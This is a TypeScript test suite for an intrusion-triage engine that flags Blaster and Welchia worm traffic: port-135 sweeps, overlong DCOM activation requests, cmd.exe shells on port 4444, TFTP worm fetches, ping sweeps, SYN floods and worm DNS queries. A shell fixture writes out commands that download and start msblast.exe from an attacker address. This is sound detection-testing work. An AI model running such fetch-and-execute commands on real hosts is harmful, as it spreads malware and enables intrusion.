import assert from 'node:assert/strict';
import { test } from 'node:test';
import { readFrames } from '../../src/capture/index.ts';
import { encodeRemactProbe, encodeRequest } from '../../src/protocol/dcerpc/index.ts';
import { type Alert, TriageEngine } from '../../src/triage/index.ts';
import {
  byTime,
  CMD_BANNER,
  conversation,
  dnsQuery,
  icmpEcho,
  type Packet,
  pcap,
  remactConversation,
  remactOverSmb,
  remactRequestWithServerPart,
  sysactConversation,
  sysactRequestWithPath,
  tcp,
  text,
  tftpTransfer,
} from './build.ts';

const triage = (packets: Packet[]): Alert[] => {
  const alerts: Alert[] = [];
  const engine = new TriageEngine((a) => alerts.push(a));
  for (const item of readFrames(pcap(byTime(packets)))) engine.push(item);
  engine.finish();
  return alerts;
};
const kinds = (alerts: Alert[]) => alerts.map((a) => a.kind).sort();

/** Blaster's sweep: `batches` batches of 20 SYNs to consecutive addresses, 1.8 s apart; odd ones answer RST. */
const blasterSweep = (src: string, net: string, t0: number, batches = 3): Packet[] => {
  const out: Packet[] = [];
  for (let b = 0; b < batches; b++) {
    for (let i = 0; i < 20; i++) {
      const n = b * 20 + i + 1;
      const dst = `${net}.${n}`;
      const t = t0 + b * 1.8 + i * 0.002;
      out.push({ t, bytes: tcp({ src, dst, sport: 2000 + i, dport: 135, flags: 0x02, window: 16384 }) });
      if (n % 2)
        out.push({
          t: t + 0.0005,
          bytes: tcp({ src: dst, dst: src, sport: 135, dport: 2000 + i, flags: 0x14 }),
        });
    }
  }
  return out;
};

test('scan-135: a Blaster-shaped sweep (batches of 20 consecutive addresses, 1.8 s apart) is severity 1', () => {
  const alerts = triage(blasterSweep('10.1.2.3', '10.1.5', 0));
  assert.deepEqual(kinds(alerts), ['scan-135']);
  const a = alerts[0]!;
  assert.equal(a.src, '10.1.2.3');
  assert.equal(a.severity, 1);
  assert.equal(a.evidence.shape, 'blaster');
  assert.equal(a.evidence.destinations, 60);
  assert.equal(a.evidence.answered_refused, 30);
  assert.equal(a.evidence.longest_consecutive_run, 60);
  assert.equal(a.evidence.median_batch_interval_s, 1.8);
  assert.match(a.signature, /Blaster-shaped/);
});

test('scan-135: a scattered scan is generic, a few destinations are not a scan', () => {
  const scattered: Packet[] = [];
  for (let i = 0; i < 30; i++) {
    scattered.push({
      t: i * 0.3,
      bytes: tcp({
        src: '10.9.9.9',
        dst: `10.${(i * 37) % 200}.${(i * 11) % 250}.7`,
        sport: 3000 + i,
        dport: 135,
        flags: 0x02,
      }),
    });
  }
  const generic = triage(scattered);
  assert.deepEqual(kinds(generic), ['scan-135']);
  assert.equal(generic[0]!.evidence.shape, 'generic');
  assert.equal(generic[0]!.severity, 2);
  // One batch of 25 consecutive addresses (nmap's order) is sequential, not Blaster.
  const one = blasterSweep('10.1.2.3', '10.1.5', 0, 1).concat(
    [21, 22, 23, 24, 25].map((n) => ({
      t: 0.05 + n * 0.001,
      bytes: tcp({ src: '10.1.2.3', dst: `10.1.5.${n}`, sport: 4000 + n, dport: 135, flags: 0x02 }),
    })),
  );
  assert.equal(triage(one)[0]!.evidence.shape, 'sequential');
  assert.deepEqual(triage(scattered.slice(0, 19)), []);
});

test('scan-135: a source that sent the benign MS03-026 probe is an auditor (severity 3), not an attacker', () => {
  const probe = encodeRequest({
    callId: 2,
    contextId: 0,
    opnum: 0,
    stub: encodeRemactProbe({
      cid: '11111111-2222-3333-4444-555555555555',
      clsid: '66666666-7777-8888-9999-aaaaaaaaaaaa',
    }),
  });
  const alerts = triage([
    ...blasterSweep('10.1.2.3', '10.1.5', 0, 2),
    ...remactConversation('10.1.2.3', '10.1.5.1', 0.01, probe),
  ]);
  assert.deepEqual(kinds(alerts), ['scan-135']);
  assert.equal(alerts[0]!.evidence.role, 'auditor');
  assert.equal(alerts[0]!.severity, 3);
  assert.match(String(alerts[0]!.evidence.auditor_probe), /MS03-026 probe/);
});

test('exploit-activation: RemoteActivation with a 60-letter server part; lengths and a hash only', () => {
  const alerts = triage(remactConversation('10.0.0.66', '10.0.0.5', 1, remactRequestWithServerPart(60)));
  assert.deepEqual(kinds(alerts), ['exploit-activation']);
  const a = alerts[0]!;
  assert.deepEqual([a.src, a.dst, a.dport], ['10.0.0.66', '10.0.0.5', 135]);
  assert.equal(a.evidence.server_part_length, 60);
  assert.equal(a.evidence.server_part_from, 'object_name');
  assert.match(String(a.evidence.stub_sha256), /^[0-9a-f]{64}$/);
  assert.ok(Number(a.evidence.stub_length) > 120);
  assert.doesNotMatch(JSON.stringify(a), /AAAA/);
});

test('exploit-activation: a 15-character server part (a NetBIOS name) is ordinary activation', () => {
  assert.deepEqual(
    triage(remactConversation('10.0.0.66', '10.0.0.5', 1, remactRequestWithServerPart(15))),
    [],
  );
  assert.deepEqual(
    triage(remactConversation('10.0.0.66', '10.0.0.5', 1, remactRequestWithServerPart(13))),
    [],
  );
});

test('exploit-activation: ISystemActivator RemoteCreateInstance with an overlong UNC path in its activation blob', () => {
  const alerts = triage(sysactConversation('10.0.0.66', '10.0.0.5', 1, sysactRequestWithPath(40)));
  assert.deepEqual(kinds(alerts), ['exploit-activation']);
  assert.equal(alerts[0]!.evidence.server_part_length, 40);
  assert.equal(alerts[0]!.evidence.server_part_from, 'stub_scan');
  assert.equal(alerts[0]!.evidence.opnum, 4);
  assert.deepEqual(triage(sysactConversation('10.0.0.66', '10.0.0.5', 1, sysactRequestWithPath(12))), []);
});

const shellSession = (banner: string, t = 2): Packet[] =>
  conversation({
    client: '10.0.0.66',
    server: '10.0.0.5',
    cport: 1040,
    sport: 4444,
    t,
    messages: [
      { from: 'server', bytes: text(banner) },
      { from: 'client', bytes: text('tftp -i 10.0.0.66 GET msblast.exe\n') },
      { from: 'client', bytes: text('start msblast.exe\r\n') },
      { from: 'client', bytes: text('dir\n') },
    ],
  });

test('shell-4444: the cmd.exe banner makes a shell alert; the commands typed are reported', () => {
  const alerts = triage(shellSession(CMD_BANNER));
  // A shell handed out plus worm commands is already a compromise (one incident, no exploit seen).
  assert.deepEqual(kinds(alerts), [
    'infection',
    'shell-4444',
    'shell-command',
    'shell-command',
    'shell-command',
  ]);
  assert.equal(alerts.find((a) => a.kind === 'infection')!.evidence.verdict, 'compromised');
  const shell = alerts.find((a) => a.kind === 'shell-4444')!;
  assert.deepEqual([shell.src, shell.sport, shell.dst], ['10.0.0.5', 4444, '10.0.0.66']);
  assert.equal(shell.evidence.prompt, 'C:\\WINNT\\system32>');
  const commands = alerts
    .filter((a) => a.kind === 'shell-command')
    .map((a) => [a.evidence.command, a.severity]);
  assert.deepEqual(commands, [
    ['tftp -i 10.0.0.66 GET msblast.exe', 1],
    ['start msblast.exe', 1],
    ['dir', 2],
  ]);
});

test('shell-4444: other traffic on 4444 (no cmd.exe banner) gives no alert, commands included', () => {
  assert.deepEqual(triage(shellSession('HTTP/1.0 200 OK\r\nServer: x\r\n\r\n')), []);
});

test('tftp-worm: RRQ for msblast.exe with a 6,176-byte MZ file, size and MZ reported', () => {
  const alerts = triage(tftpTransfer('10.0.0.5', '10.0.0.66', 3, 'msblast.exe', 6176));
  assert.deepEqual(kinds(alerts), ['tftp-worm']);
  const e = alerts[0]!.evidence;
  assert.deepEqual(
    [e.operation, e.file, e.family, e.mode, e.bytes, e.blocks, e.complete, e.mz_header, e.fetched_by],
    ['read', 'msblast.exe', 'Blaster.A', 'octet', 6176, 13, true, true, '10.0.0.5'],
  );
  const notMz = triage(tftpTransfer('10.0.0.5', '10.0.0.66', 3, 'PENIS32.EXE', 1000, 'XX'));
  assert.equal(notMz[0]!.evidence.mz_header, false);
  assert.equal(notMz[0]!.evidence.family, 'Blaster.B');
});

test('tftp-worm: an ordinary TFTP transfer (pxelinux.0) gives no alert', () => {
  assert.deepEqual(triage(tftpTransfer('10.0.0.5', '10.0.0.66', 3, 'pxelinux.0', 3000)), []);
});

test('welchia-ping-sweep: 92-byte echo requests with 0xAA payload to 12 addresses', () => {
  const pings = Array.from({ length: 12 }, (_, i) => ({
    t: i * 0.05,
    bytes: icmpEcho('10.0.0.7', `10.0.3.${i + 1}`, new Uint8Array(64).fill(0xaa)),
  }));
  const alerts = triage(pings);
  assert.deepEqual(kinds(alerts), ['welchia-ping-sweep']);
  assert.equal(alerts[0]!.src, '10.0.0.7');
  assert.equal(alerts[0]!.evidence.destinations, 10);
});

test('welchia-ping-sweep: ordinary pings (Linux 84-byte, Windows 60-byte) give no alert', () => {
  const linux = Uint8Array.from({ length: 56 }, (_, i) => i);
  const windows = text('abcdefghijklmnopqrstuvwabcdefghi');
  const pings = Array.from({ length: 30 }, (_, i) => ({
    t: i * 0.05,
    bytes: icmpEcho('10.0.0.7', `10.0.3.${i + 1}`, i % 2 ? linux : windows),
  }));
  // 0xAA fill at another size is not Welchia's either.
  pings.push(
    ...Array.from({ length: 12 }, (_, i) => ({
      t: 2 + i * 0.05,
      bytes: icmpEcho('10.0.0.8', `10.0.4.${i + 1}`, new Uint8Array(32).fill(0xaa)),
    })),
  );
  assert.deepEqual(triage(pings), []);
});

test('ddos-syn-flood: 50 SYN/s to TCP/80 from spoofed sources in one /16', () => {
  let x = 12345;
  const rand = () => {
    x = (Math.imul(x, 1103515245) + 12345) >>> 0;
    return x >>> 24;
  };
  const flood = Array.from({ length: 200 }, (_, i) => ({
    t: i * 0.02,
    bytes: tcp({
      src: `10.20.${rand()}.${rand()}`,
      dst: '198.51.100.80',
      sport: 1024 + i,
      dport: 80,
      flags: 0x02,
      window: 16384,
      ttl: 128,
    }),
  }));
  const alerts = triage(flood);
  assert.deepEqual(kinds(alerts), ['ddos-syn-flood']);
  const e = alerts[0]!.evidence;
  assert.equal(e.source_prefix, '10.20.0.0/16');
  assert.ok(Number(e.rate_pps) > 45 && Number(e.rate_pps) < 55, String(e.rate_pps));
  assert.equal(e.ttl_128_share, 1);
  assert.equal(e.window_16384_share, 1);
});

test('ddos-syn-flood: many connections to a web server from a few clients give no alert', () => {
  const web = Array.from({ length: 300 }, (_, i) => ({
    t: i * 0.01,
    bytes: tcp({
      src: `10.20.0.${1 + (i % 3)}`,
      dst: '198.51.100.80',
      sport: 1024 + i,
      dport: 80,
      flags: 0x02,
    }),
  }));
  assert.deepEqual(triage(web), []);
});

test('worm-dns: queries for windowsupdate.com, kimble.org, tuiasi.ro; not for subdomains or other names', () => {
  const alerts = triage([
    dnsQuery('10.0.0.5', '10.0.0.53', 1, 'windowsupdate.com'),
    dnsQuery('10.0.0.5', '10.0.0.53', 1.1, 'windowsupdate.com'),
    dnsQuery('10.0.0.6', '10.0.0.53', 1.2, 'kimble.org'),
    dnsQuery('10.0.0.7', '10.0.0.53', 1.3, 'TUIASI.RO'),
    dnsQuery('10.0.0.8', '10.0.0.53', 1.4, 'download.windowsupdate.com'),
    dnsQuery('10.0.0.8', '10.0.0.53', 1.5, 'www.example.com'),
  ]);
  assert.deepEqual(
    alerts.map((a) => [a.kind, a.src, a.evidence.query]),
    [
      ['worm-dns', '10.0.0.5', 'windowsupdate.com'],
      ['worm-dns', '10.0.0.6', 'kimble.org'],
      ['worm-dns', '10.0.0.7', 'tuiasi.ro'],
    ],
  );
});

test('infection: exploit → 4444 shell → TFTP fetch → the victim sweeps 135, one incident with its timeline', () => {
  const alerts = triage([
    ...remactConversation('10.0.0.66', '10.0.0.5', 0, remactRequestWithServerPart(60)),
    ...shellSession(CMD_BANNER, 1),
    ...tftpTransfer('10.0.0.5', '10.0.0.66', 2, 'msblast.exe', 6176),
    ...blasterSweep('10.0.0.5', '10.0.7', 10),
    dnsQuery('10.0.0.5', '10.0.0.53', 20, 'windowsupdate.com'),
  ]);
  const incidents = alerts.filter((a) => a.kind === 'infection');
  assert.equal(incidents.length, 1);
  const e = incidents[0]!.evidence;
  assert.equal(e.victim, '10.0.0.5');
  assert.equal(e.attacker, '10.0.0.66');
  assert.equal(e.verdict, 'infected');
  assert.deepEqual(e.stages, ['exploited', 'shell', 'commands', 'worm-fetched', 'scanning', 'ddos-dns']);
  const times = (e.timeline as Array<{ time: string }>).map((s) => s.time);
  assert.deepEqual(times, [...times].sort());
});

test('infection: an exploit attempt alone, or a scan alone, is not an incident', () => {
  assert.deepEqual(
    kinds(triage(remactConversation('10.0.0.66', '10.0.0.5', 0, remactRequestWithServerPart(60)))),
    ['exploit-activation'],
  );
  assert.deepEqual(kinds(triage(blasterSweep('10.0.0.5', '10.0.7', 0))), ['scan-135']);
});

test('exploit-activation: the same request written to an SMB2 named pipe on 445 (snort 2193 territory)', () => {
  const alerts = triage(remactOverSmb('10.0.0.66', '10.0.0.5', 1, remactRequestWithServerPart(40)));
  assert.deepEqual(kinds(alerts), ['exploit-activation']);
  assert.equal(alerts[0]!.dport, 445);
  assert.equal(alerts[0]!.evidence.server_part_length, 40);
  assert.equal(alerts[0]!.evidence.smb_version, 2);
  assert.match(alerts[0]!.signature, /over SMB pipe/);
  assert.deepEqual(triage(remactOverSmb('10.0.0.66', '10.0.0.5', 1, remactRequestWithServerPart(15))), []);
});
